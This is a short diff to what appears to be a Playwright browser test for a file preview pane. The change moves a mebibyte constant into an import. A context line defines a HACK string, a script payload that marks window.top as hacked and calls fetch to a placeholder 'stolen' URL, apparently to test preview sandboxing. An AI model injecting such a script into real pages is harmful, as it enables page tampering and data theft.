@@ -1,11 +1,11 @@
 import type { Page } from '@playwright/test';
 import { pdf, png, textFile, wav } from '../../../dev/seed/generated-files.ts';
+import { MIB } from '../../../worker/contract/units.ts';
 import { atRest, violations } from '../acts/axe.ts';
 import { expect, test } from '../acts/browser.ts';
 import { recordFilm } from '../acts/film.ts';
 import { pane, shared, show } from '../acts/preview-acts.ts';
 
-const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
 /** Records ranges. The returned list receives the `Range` header of each later preview request. */
